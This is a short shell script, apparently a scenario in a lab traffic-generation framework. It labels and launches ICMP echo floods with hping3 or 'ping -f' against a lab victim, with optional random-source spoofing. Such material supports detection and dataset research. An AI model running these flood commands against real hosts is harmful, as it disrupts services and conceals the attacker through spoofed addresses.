# SPDX-License-Identifier: MIT
# label: dos-icmp
# source: lab-hping3
# needs: hping3 ping
# seconds: 60
# Echo requests, from one source or any; or ping -f.
. $lab/victims.sh

scenario() {
	_kind=$(choose hping3 hping3 ping)
	_spoof=$(choose "" "--rand-source")
	_gap=$(choose u500 u2000 u5000)
	setting options "$_kind -i $_gap $_spoof"
	intent_begin '*' e icmp 0
	if [ "$_kind" = ping ]; then
		on v timeout 12 ping -q -f -s "$(choose 56 1000)" "$(addr e)"
	else
		on v timeout "$(pick 8 15)" hping3 -q -n --icmp -i "$_gap" \
			-d "$(choose 0 64 1000)" \
			$_spoof "$(addr e)"
	fi
	intent_end
}
